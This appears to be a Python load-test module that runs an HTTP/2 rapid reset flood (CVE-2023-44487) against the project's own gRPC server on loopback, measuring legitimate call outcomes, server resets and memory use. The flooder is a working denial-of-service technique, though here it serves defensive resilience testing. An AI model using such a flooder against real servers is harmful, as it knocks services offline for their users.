"""HTTP/2 rapid reset (CVE-2023-44487) against our server, with a well-behaved client beside it.

    .venv/bin/python -m tests.load.rapid_reset [--seconds 10] [--streams N] [--callers 4]
                                               [--config FIELD=INT ...]
    .venv/bin/python -m tests.load.rapid_reset flood --port P [--streams N] [--seconds S]
                                                     [--batch 50] [--drain 1]

The first form starts our server (`tests.load.servers ours`, demo agent, `--config` passed on)
as a child process, floods it from a second child process for `--seconds` (or until `--streams`
streams were sent), and meanwhile runs `--callers` closed-loop SendMessage callers on their own
grpc.aio channel. It prints one JSON line: what the well-behaved calls got (OK / CANCELLED /
other codes), what the flooding connection was told (REFUSED_STREAM and other resets,
GOAWAY, a closed or stalled connection), and the server's resident memory before, at its peak
during, and after the flood (`server_rss_mib`, sampled every 0.1 s).

`flood` is the flooder alone: one plain TCP connection to 127.0.0.1 (never another host). It
completes the HTTP/2 handshake (acknowledging the server's SETTINGS, like any client), then
sends HEADERS for /lf.a2a.v1.A2AService/SendMessage followed at once by RST_STREAM(CANCEL),
`--batch` streams per write (50), until the count or the time is spent, the server sends
GOAWAY or closes the connection, or a write waits 5 s (the server stopped reading). It reads
`DRAIN` seconds more (a GOAWAY may be on its way; the PING of a graceful one is acknowledged,
as any client does, and the server then closes the connection) and prints one JSON line
(`FloodResult`).
"""

from __future__ import annotations

import argparse
import asyncio
import contextlib
import dataclasses
import json
import select
import socket
import sys
import time
import uuid
from collections import Counter
from pathlib import Path

import grpc
import h2.config
import h2.connection
import h2.errors
import h2.exceptions

from a2a_grpc.generated import a2a_pb2, a2a_pb2_grpc
from tests.load.servers import ours_child_process

LOOPBACK = "127.0.0.1"
PATH = "/lf.a2a.v1.A2AService/SendMessage"
BATCH = 50
"""Streams opened and reset per socket write, by default."""
DRAIN = 1.0
"""Seconds the flooder keeps reading after its last stream."""
CALL_TIMEOUT = 10.0
"""Deadline of each well-behaved call."""
FRAME_HEADER = 9
HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = 0x1, 0x3, 0x4, 0x6, 0x7
ACK = 0x1


@dataclasses.dataclass
class FloodResult:
    """What one flooding connection sent and was told."""

    streams: int = 0
    seconds: float = 0.0
    resets: dict[str, int] = dataclasses.field(default_factory=dict)
    """RST_STREAM frames from the server, by HTTP/2 error code name (REFUSED_STREAM: throttled)."""
    responses: int = 0
    """Streams the server answered with HEADERS before our reset reached it."""
    goaway: str | None = None
    """Error code name of the server's GOAWAY, if one came."""
    goaway_after_streams: int | None = None
    closed_by_server: bool = False
    stalled: bool = False
    """The server stopped reading from the connection (a write waited more than 5 s)."""
    pings: int = 0

    @property
    def refused(self) -> int:
        return self.resets.get("REFUSED_STREAM", 0)


class _Flooder:
    """One HTTP/2 connection that opens and at once resets streams."""

    def __init__(self, port: int) -> None:
        self.result = FloodResult()
        self.settings_received = False
        self._h2 = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        self._headers = [
            (":method", "POST"),
            (":scheme", "http"),
            (":path", PATH),
            (":authority", f"{LOOPBACK}:{port}"),
            ("content-type", "application/grpc"),
            ("te", "trailers"),
            ("a2a-version", "1.0"),
        ]
        self._sock = socket.create_connection((LOOPBACK, port), timeout=5)
        self._inbound = bytearray()
        self._acks = bytearray()

    def run(self, streams: int, seconds: float, batch: int, drain: float = DRAIN) -> FloodResult:
        try:
            self._handshake()
            start = time.monotonic()
            self._flood(streams, start + seconds, batch)
            self.result.seconds = round(time.monotonic() - start, 3)
            drain_until = time.monotonic() + drain
            while not self.result.closed_by_server and time.monotonic() < drain_until:
                self._read(0.05)
                self._send()  # acknowledges the PING of a graceful GOAWAY, as clients do
        except (BrokenPipeError, ConnectionResetError):
            self.result.closed_by_server = True
        except TimeoutError:
            self.result.stalled = True
        finally:
            self._sock.close()
        return self.result

    def _handshake(self) -> None:
        # grpc refuses streams that arrive before its SETTINGS are acknowledged; h2 queues the
        # acknowledgement when it reads them.
        self._h2.initiate_connection()
        self._send()
        give_up = time.monotonic() + 5
        while not self.settings_received and time.monotonic() < give_up:
            self._read(0.1)
        self._send()

    def _flood(self, streams: int, end: float, batch: int) -> None:
        result = self.result
        while result.streams < streams and time.monotonic() < end:
            if result.goaway is not None or result.closed_by_server:
                return
            for _ in range(min(batch, streams - result.streams)):
                stream_id = self._h2.get_next_available_stream_id()
                self._h2.send_headers(stream_id, self._headers)
                self._h2.reset_stream(stream_id, h2.errors.ErrorCodes.CANCEL)
                result.streams += 1
            self._send()
            self._read(0.0)
            self._send()  # PING / SETTINGS acknowledgements

    def _send(self) -> None:
        data = self._h2.data_to_send() + self._acks
        self._acks.clear()
        if data:
            self._sock.sendall(data)

    def _read(self, wait: float) -> None:
        """Reads what has arrived (waiting up to `wait` seconds) and counts it."""
        readable, _, _ = select.select([self._sock], [], [], wait)
        if not readable:
            return
        try:
            data = self._sock.recv(1 << 16)
        except ConnectionResetError:
            data = b""
        if not data:
            self.result.closed_by_server = True
            return
        self._count_frames(data)
        with contextlib.suppress(h2.exceptions.ProtocolError):
            self._h2.receive_data(data)  # for its SETTINGS and PING acknowledgements

    def _count_frames(self, data: bytes) -> None:
        # Counted from the bytes rather than from h2's events: h2 drops what arrives for streams
        # it has reset itself, which here is every stream.
        self._inbound += data
        result = self.result
        while len(self._inbound) >= FRAME_HEADER:
            length = int.from_bytes(self._inbound[:3], "big")
            if len(self._inbound) < FRAME_HEADER + length:
                return
            kind, flags = self._inbound[3], self._inbound[4]
            payload = bytes(self._inbound[FRAME_HEADER : FRAME_HEADER + length])
            del self._inbound[: FRAME_HEADER + length]
            if kind == SETTINGS and not flags & ACK:
                self.settings_received = True
            elif kind == RST_STREAM:
                name = _code_name(int.from_bytes(payload[:4], "big"))
                result.resets[name] = result.resets.get(name, 0) + 1
            elif kind == HEADERS:
                result.responses += 1
            elif kind == GOAWAY and result.goaway is None:
                result.goaway = _code_name(int.from_bytes(payload[4:8], "big"))
                result.goaway_after_streams = result.streams
            elif kind == PING and not flags & ACK:
                result.pings += 1
                if result.goaway is not None:  # h2 answers nothing once it has seen a GOAWAY
                    ack = len(payload).to_bytes(3, "big") + bytes((PING, ACK)) + bytes(4)
                    self._acks += ack + payload


def flood(
    port: int, *, streams: int, seconds: float, batch: int = BATCH, drain: float = DRAIN
) -> FloodResult:
    """Rapid-resets up to `streams` streams on one connection to 127.0.0.1:`port`.

    Stops after `seconds`, or once the server sends GOAWAY or closes the connection; then
    reads for `drain` seconds at most, until the server closes the connection.
    """
    return _Flooder(port).run(streams, seconds, batch, drain)


def _code_name(code: int) -> str:
    try:
        return h2.errors.ErrorCodes(code).name
    except ValueError:
        return str(code)


# -- the well-behaved side --------------------------------------------------------------------


async def call_while(
    port: int, running: asyncio.Event, callers: int, answered: asyncio.Event | None = None
) -> Counter[str]:
    """Closed-loop SendMessage from `callers` workers on one channel until `running` clears;
    `answered` is set once the first call succeeded.

    Returns the status code names of the calls (OK included).
    """
    outcomes: Counter[str] = Counter()
    async with grpc.aio.insecure_channel(f"{LOOPBACK}:{port}") as channel:
        stub = a2a_pb2_grpc.A2AServiceStub(channel)
        await asyncio.wait_for(channel.channel_ready(), CALL_TIMEOUT)

        async def caller() -> None:
            while running.is_set():
                try:
                    await stub.SendMessage(
                        echo_request(), metadata=(("a2a-version", "1.0"),), timeout=CALL_TIMEOUT
                    )
                    outcomes["OK"] += 1
                    if answered is not None:
                        answered.set()
                except grpc.aio.AioRpcError as error:
                    outcomes[error.code().name] += 1

        await asyncio.gather(*(caller() for _ in range(callers)))
    return outcomes


def echo_request(text: str = "hello") -> a2a_pb2.SendMessageRequest:
    return a2a_pb2.SendMessageRequest(
        message=a2a_pb2.Message(
            message_id=str(uuid.uuid4()),
            role=a2a_pb2.ROLE_USER,
            parts=[a2a_pb2.Part(text=text)],
        )
    )


async def flood_in_child(
    port: int, *, streams: int, seconds: float, batch: int = BATCH, drain: float = DRAIN
) -> FloodResult:
    """Runs `flood` in a child process (so it has its own interpreter) and returns its result."""
    child = await asyncio.create_subprocess_exec(
        sys.executable,
        "-m",
        "tests.load.rapid_reset",
        "flood",
        "--port",
        str(port),
        "--streams",
        str(streams),
        "--seconds",
        str(seconds),
        "--batch",
        str(batch),
        "--drain",
        str(drain),
        stdout=asyncio.subprocess.PIPE,
    )
    out, _ = await child.communicate()
    if child.returncode != 0:
        raise RuntimeError(f"the flooder exited with {child.returncode}")
    return FloodResult(**json.loads(out.decode().strip().splitlines()[-1]))


async def measure(port: int, *, streams: int, seconds: float, callers: int) -> dict[str, object]:
    """Well-behaved calls during one flood: their outcomes, and the flooder's result."""
    running = asyncio.Event()
    running.set()
    calls = asyncio.create_task(call_while(port, running, callers))
    await asyncio.sleep(0.5)  # the callers are connected and calling before the flood starts
    try:
        result = await flood_in_child(port, streams=streams, seconds=seconds)
    finally:
        running.clear()
    outcomes = await calls
    return {"calls": dict(outcomes), "flood": dataclasses.asdict(result)}


def _rss_mib(pid: int) -> float:
    status = Path(f"/proc/{pid}/status").read_text()
    line = next(line for line in status.splitlines() if line.startswith("VmRSS:"))
    return round(int(line.split()[1]) / 1024, 1)


async def _rss_while(pid: int, running: asyncio.Event, peak: list[float]) -> None:
    while running.is_set():
        peak[0] = max(peak[0], _rss_mib(pid))
        await asyncio.sleep(0.1)


async def _with_server(args: argparse.Namespace) -> dict[str, object]:
    settings = [arg for setting in args.config for arg in ("--config", setting)]
    async with ours_child_process(*settings) as (port, pid):
        before = _rss_mib(pid)
        peak = [before]
        running = asyncio.Event()
        running.set()
        sampler = asyncio.create_task(_rss_while(pid, running, peak))
        try:
            result = await measure(
                port, streams=args.streams, seconds=args.seconds, callers=args.callers
            )
        finally:
            running.clear()
            await sampler
        result["server_rss_mib"] = {"before": before, "peak": peak[0], "after": _rss_mib(pid)}
        return result


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("mode", nargs="?", choices=("measure", "flood"), default="measure")
    parser.add_argument("--port", type=int, help="flood: the server's port on 127.0.0.1")
    parser.add_argument("--streams", type=int, default=1_000_000, help="at most this many")
    parser.add_argument("--seconds", type=float, default=10.0, help="at most this long")
    parser.add_argument("--batch", type=int, default=BATCH, help="flood: streams per write")
    parser.add_argument(
        "--drain", type=float, default=DRAIN, help="flood: seconds to read after the last stream"
    )
    parser.add_argument("--callers", type=int, default=4, help="well-behaved closed-loop callers")
    parser.add_argument(
        "--config", action="append", default=[], metavar="FIELD=INT", help="a server setting"
    )
    args = parser.parse_args()
    if args.mode == "flood":
        if args.port is None:
            parser.error("flood needs --port")
        result = flood(
            args.port,
            streams=args.streams,
            seconds=args.seconds,
            batch=args.batch,
            drain=args.drain,
        )
        print(json.dumps(dataclasses.asdict(result), sort_keys=True), flush=True)
        return
    print(json.dumps(asyncio.run(_with_server(args)), sort_keys=True), flush=True)


if __name__ == "__main__":
    main()
